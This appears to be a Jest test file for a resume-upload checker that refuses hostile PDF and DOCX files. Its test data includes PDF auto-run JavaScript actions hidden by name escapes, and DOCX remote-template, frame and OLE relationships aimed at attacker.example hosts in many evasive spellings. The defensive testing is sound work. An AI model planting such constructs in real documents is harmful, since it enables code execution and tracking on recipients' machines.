/** @jest-environment node */
/**
 * The structure checks of supabase/functions/_shared/core/resume-check.ts on their own: what genuine
 * writers produce passes (LibreOffice's files, pdf-lib's, a minimal package, the variations real
 * writers make), every hostile file is refused with a reason, each in bounded time; PDF names in
 * every escape form and DOCX relationship parts, generated.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { zipSync } from 'fflate';
import { decodePdfName, inspectResume } from '@/supabase/functions/_shared/core/resume-check.ts';
import {
  docxWithParts,
  docxWithRemoteTemplate,
  escapePdfName,
  ESCAPE_FORMS,
  HIDDEN_ACTION_REASONS,
  HIDDEN_ACTIONS,
  issueExamplePdf,
  linkAction,
  pdfWithOpenAction,
  RELATIONSHIP,
  relationshipsXml,
  type EscapeForm,
} from './helpers/hidden-resumes';
import {
  DOCX_PARTS,
  docxWith,
  hostileResumes,
  pdfOfSize,
  plainPdf,
} from './helpers/hostile-resumes';

const fixture = (name: string) =>
  new Uint8Array(readFileSync(path.join(__dirname, 'fixtures', 'resumes', name)));
const text = (s: string) => new TextEncoder().encode(s);

it('passes what genuine writers produce', async () => {
  expect(await inspectResume(fixture('resume.pdf'), 'pdf')).toEqual({ ok: true });
  expect(await inspectResume(fixture('resume.docx'), 'docx')).toEqual({ ok: true });
  expect(await inspectResume(fixture('resume.doc'), 'doc')).toEqual({ ok: true });
  expect(await inspectResume(await plainPdf(), 'pdf')).toEqual({ ok: true });
  expect(await inspectResume(await pdfOfSize(5 * 1024 * 1024), 'pdf')).toEqual({ ok: true });
  expect(await inspectResume(docxWith(), 'docx')).toEqual({ ok: true });
  // Single-quoted attributes in [Content_Types].xml, a PDF padded with NUL bytes after %%EOF.
  const singleQuoted = new TextDecoder()
    .decode(DOCX_PARTS['[Content_Types].xml'])
    .replace(/"/g, "'");
  expect(
    await inspectResume(docxWith({ '[Content_Types].xml': text(singleQuoted) }), 'docx'),
  ).toEqual({ ok: true });
  expect(
    await inspectResume(new Uint8Array([...fixture('resume.pdf'), ...new Uint8Array(64)]), 'pdf'),
  ).toEqual({ ok: true });
});

it('refuses every hostile file with its reason', async () => {
  for (const hostile of await hostileResumes()) {
    const verdict = await inspectResume(
      hostile.bytes,
      hostile.filename.split('.').pop() as 'pdf' | 'doc' | 'docx',
    );
    expect([hostile.label, verdict.ok]).toEqual([hostile.label, false]);
    expect(verdict.ok || verdict.reason.length > 0).toBe(true);
  }
});

it('refuses a file checked as another kind than it is', async () => {
  expect((await inspectResume(fixture('resume.docx'), 'pdf')).ok).toBe(false);
  expect((await inspectResume(fixture('resume.pdf'), 'docx')).ok).toBe(false);
  expect((await inspectResume(fixture('resume.docx'), 'doc')).ok).toBe(false);
  // A DOCX that lacks its main document, or declares the macro-enabled one.
  const withoutMain = zipSync(
    Object.fromEntries(Object.entries(DOCX_PARTS).filter(([name]) => name !== 'word/document.xml')),
  );
  expect(await inspectResume(withoutMain, 'docx')).toEqual({
    ok: false,
    reason: 'no word/document.xml',
  });
  const macroMain = new TextDecoder()
    .decode(DOCX_PARTS['[Content_Types].xml'])
    .replace('document.main+xml', 'document.macroEnabled.main+xml');
  expect(
    await inspectResume(docxWith({ '[Content_Types].xml': text(macroMain) }), 'docx'),
  ).toMatchObject({ ok: false });
});

describe('PDF names, decoded as ISO 32000-1 §7.3.5 defines', () => {
  const forms = fc.array(fc.constantFrom(...ESCAPE_FORMS), { minLength: 1, maxLength: 12 });
  const writer = (chosen: readonly EscapeForm[]) => (name: string) => escapePdfName(name, chosen);

  it('decodes every escape form of any character back to the name', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 40 }), forms, (bytes, chosen) => {
        const name = String.fromCharCode(...bytes);
        expect(decodePdfName(escapePdfName(name, chosen))).toBe(name);
      }),
      { numRuns: 500 },
    );
    // One pass: #23 is a literal #, and what follows it stays as written.
    expect(decodePdfName('#234A#4a#4A#2')).toBe('#4AJJ#2');
  });

  it("refuses the issue's example: /#4aava#53cript /#4a#53 as an OpenAction inside an object stream", async () => {
    expect(await inspectResume(issueExamplePdf(), 'pdf')).toEqual({
      ok: false,
      reason: 'it carries JavaScript',
    });
  });

  it('refuses every generated spelling of an active action, in an object stream (whatever its /Type, however spelled) or a plain object', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...(Object.keys(HIDDEN_ACTIONS) as (keyof typeof HIDDEN_ACTIONS)[])),
        forms,
        forms,
        fc.boolean(),
        // pdf.js reads a stream the cross-reference names as an object stream whatever its /Type.
        fc.constantFrom('ObjStm', 'XObject', 'Metadata'),
        async (kind, actionForms, structureForms, inObjectStream, objectStreamType) => {
          const pdf = pdfWithOpenAction(HIDDEN_ACTIONS[kind](writer(actionForms)), {
            inObjectStream,
            structure: writer(structureForms),
            objectStreamType,
          });
          expect(await inspectResume(pdf, 'pdf')).toEqual({
            ok: false,
            reason: HIDDEN_ACTION_REASONS[kind],
          });
        },
      ),
      { numRuns: 150 },
    );
  });

  it('accepts the same PDFs with a link in place of the action, however its names are spelled: the refusals are for the names', async () => {
    await fc.assert(
      fc.asyncProperty(forms, fc.boolean(), async (chosen, inObjectStream) => {
        expect(
          await inspectResume(
            pdfWithOpenAction(linkAction(writer(chosen)), { inObjectStream }),
            'pdf',
          ),
        ).toEqual({ ok: true });
      }),
      { numRuns: 40 },
    );
  });

  it('reads what a reader reads: an action after a string that reads past its object, in the trailer, or in a stream whose /Length is a reference', async () => {
    const action = '<< /S /#4Aava#53cript /JS (x) >>';
    const latin1 = (s: string) => Uint8Array.from(s, (c) => c.charCodeAt(0));
    const pdf = (body: string, root = '1 0 R') => {
      const head = `%PDF-1.7\n${body}`;
      return latin1(
        `${head}xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Root ${root} >>\nstartxref\n${head.length}\n%%EOF\n`,
      );
    };
    const refused = { ok: false, reason: 'it carries JavaScript' };
    // An unbalanced parenthesis in one object does not hide the next object from the check.
    expect(
      await inspectResume(
        pdf(`1 0 obj\n<< /Type /Catalog /Title (open \\) >>\nendobj\n2 0 obj\n${action}\nendobj\n`),
        'pdf',
      ),
    ).toEqual(refused);
    // Stream data holding `endstream (` is skipped by its /Length, here a reference.
    const data = 'q endstream ( Q';
    const stream = `1 0 obj\n<< /Length 2 0 R >>\nstream\n${data}\nendstream\nendobj\n2 0 obj\n${data.length}\nendobj\n3 0 obj\n<< /OpenAction ${action} >>\nendobj\n`;
    expect(await inspectResume(pdf(stream), 'pdf')).toEqual(refused);
    // A catalog written in the trailer itself.
    expect(
      await inspectResume(
        pdf(
          '1 0 obj\n<< /Type /Catalog >>\nendobj\n',
          `<< /Type /Catalog /OpenAction ${action} >>`,
        ),
        'pdf',
      ),
    ).toEqual(refused);
    // The controls: the same files with a link are read to the end and accepted.
    const link = '<< /S /URI /URI (https://www.linkedin.com/in/alex-example) >>';
    expect(
      await inspectResume(
        pdf(`1 0 obj\n<< /Type /Catalog /OpenAction ${link} >>\nendobj\n`),
        'pdf',
      ),
    ).toEqual({ ok: true });
  });
});

describe('DOCX relationships', () => {
  const rel = (type: string, target: string, mode = ' TargetMode="External"') =>
    relationshipsXml(`Type="${RELATIONSHIP}/${type}" Target="${target}"${mode}`);

  it("accepts Word, Google Docs and LibreOffice resumes with a LinkedIn hyperlink, and a template on the writer's disk", async () => {
    for (const name of ['word.docx', 'google-docs.docx', 'linked-resume.docx'])
      expect([name, await inspectResume(fixture(name), 'docx')]).toEqual([name, { ok: true }]);
    for (const name of ['linked-resume.pdf', 'tagged-resume.pdf'])
      expect([name, await inspectResume(fixture(name), 'pdf')]).toEqual([name, { ok: true }]);
    for (const target of [
      'file:///C:\\Users\\alex\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx',
      'C:\\Templates\\Resume.dotx',
      'file:///Users/alex/Templates/Resume.dotx',
    ]) {
      expect([target, await inspectResume(docxWithRemoteTemplate(target), 'docx')]).toEqual([
        target,
        { ok: true },
      ]);
    }
  });

  it('refuses a template fetched from the network, however its target is written', async () => {
    for (const target of [
      'https://attacker.example/template.dotm',
      'http://203.0.113.9/t.dotm',
      '\\\\203.0.113.9\\share\\t.dotm',
      'file://attacker.example/share/t.dotm',
      'file:////attacker.example/share/t.dotm',
      'file:///%5C%5Cattacker.example%5Cshare%5Ct.dotm',
      'file:///\\\\attacker.example\\share\\t.dotm',
      '&#104;ttps://attacker.example/t.dotm',
      'Resume.dotx',
    ]) {
      expect([target, await inspectResume(docxWithRemoteTemplate(target), 'docx')]).toEqual([
        target,
        { ok: false, reason: 'an external attachedTemplate (word/_rels/settings.xml.rels)' },
      ]);
    }
  });

  it('refuses a frame, OLE object, sub-document, linked image or data source outside the package, in any relationship part', async () => {
    const cases: [string, string, string][] = [
      ['word/_rels/webSettings.xml.rels', 'frame', 'https://attacker.example/frame.html'],
      ['word/_rels/document.xml.rels', 'oleObject', 'file:///C:\\Windows\\System32\\cmd.exe'],
      ['word/_rels/document.xml.rels', 'subDocument', 'https://attacker.example/part.docx'],
      ['word/_rels/header1.xml.rels', 'image', 'https://attacker.example/pixel.png'],
      ['word/_rels/settings.xml.rels', 'mailMergeSource', '\\\\attacker.example\\data.xlsx'],
      ['_rels/.rels', 'customXml', 'https://attacker.example/x.xml'],
      ['word/glossary/_rels/document.xml.RELS', 'aFChunk', 'https://attacker.example/chunk.mht'],
    ];
    for (const [part, type, target] of cases) {
      expect([
        type,
        await inspectResume(docxWithParts({ [part]: rel(type, target) }), 'docx'),
      ]).toEqual([type, { ok: false, reason: `an external ${type} (${part})` }]);
    }
  });

  it('reads TargetMode as an XML parser does: entities, quotes, case, prefixes, UTF-16, comments', async () => {
    const part = 'word/_rels/settings.xml.rels';
    const template = `${RELATIONSHIP}/attachedTemplate`;
    const refused = { ok: false, reason: `an external attachedTemplate (${part})` };
    const variants = [
      relationshipsXml(
        `Type="${template}" Target="https://attacker.example/t.dotm" TargetMode="&#69;xternal"`,
      ),
      relationshipsXml(
        `Type='${template.replace('a', '&#x61;')}' Target='https://attacker.example/t.dotm' TargetMode='External'`,
      ),
      relationshipsXml(
        `Type="${template}" Target="https://attacker.example/t.dotm" TargetMode=" external "`,
      ),
      `<?xml version="1.0"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="a" Type="${template}" Target="https://attacker.example/t.dotm" TargetMode="External"/></r:Relationships>`,
      // Internal in name, a URL in fact.
      relationshipsXml(`Type="${template}" Target="https://attacker.example/t.dotm"`),
      // A `>` inside a value does not end the tag; a decoy inside a value is not an attribute.
      relationshipsXml(
        `Type="${template}" Target="https://attacker.example/?a>b" TargetMode="External"`,
      ),
      relationshipsXml(
        `Id2="x TargetMode='Internal'" Type="${template}" Target="https://a.example/t" TargetMode="External"`,
      ),
    ];
    for (const xml of variants)
      expect([xml, await inspectResume(docxWithParts({ [part]: xml }), 'docx')]).toEqual([
        xml,
        refused,
      ]);
    const utf16 = new Uint8Array([
      0xff,
      0xfe,
      ...Array.from(variants[0]).flatMap((c) => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8]),
    ]);
    expect(await inspectResume(docxWithParts({ [part]: utf16 }), 'docx')).toEqual(refused);
    const declared = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY m "External">]>${relationshipsXml(`Type="${template}" Target="https://a.example/t" TargetMode="&m;"`).replace(/^<\?xml[^>]*>\n/, '')}`;
    expect(await inspectResume(docxWithParts({ [part]: declared }), 'docx')).toEqual({
      ok: false,
      reason: `a document type declaration in ${part}`,
    });
    // A relationship that is only in a comment is not one.
    const commented = relationshipsXml().replace(
      '</Relationships>',
      `<!-- <Relationship Id="x" Type="${template}" Target="https://a.example/t" TargetMode="External"/> --></Relationships>`,
    );
    expect(await inspectResume(docxWithParts({ [part]: commented }), 'docx')).toEqual({ ok: true });
    const repeated = relationshipsXml(
      `Type="${template}" Target="https://a.example/t" TargetMode="Internal" TargetMode="External"`,
    );
    expect(await inspectResume(docxWithParts({ [part]: repeated }), 'docx')).toEqual({
      ok: false,
      reason: `a relationship with a repeated attribute in ${part}`,
    });
  });

  it('accepts any external hyperlink, refuses any other external relationship type but a local template (generated)', async () => {
    const types = fc.oneof(
      fc.constantFrom(
        'attachedTemplate',
        'frame',
        'oleObject',
        'subDocument',
        'image',
        'video',
        'package',
        'externalLinkPath',
      ),
      fc.stringMatching(/^[A-Za-z]{1,20}$/),
    );
    // Any text after a scheme: quotes, `>`, `&` and `<` included (escaped as XML requires).
    const targets = fc
      .tuple(
        fc.constantFrom('https://', 'http://', 'mailto:', 'ftp://', 'file:///C:\\', '\\\\'),
        fc.string({ maxLength: 40 }),
      )
      .map(([scheme, rest]) => scheme + rest);
    await fc.assert(
      fc.asyncProperty(types, targets, async (type, target) => {
        const xml = relationshipsXml(
          `Type="${RELATIONSHIP}/${type}" Target="${target.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;')}" TargetMode="External"`,
        );
        const verdict = await inspectResume(
          docxWithParts({ 'word/_rels/document.xml.rels': xml }),
          'docx',
        );
        // A template on the writer's own disk is Word's normal output.
        const local = type === 'attachedTemplate' && target.startsWith('file:///C:');
        expect(verdict).toEqual(
          type === 'hyperlink' || local
            ? { ok: true }
            : { ok: false, reason: `an external ${type} (word/_rels/document.xml.rels)` },
        );
      }),
      { numRuns: 40 },
    );
  });
});
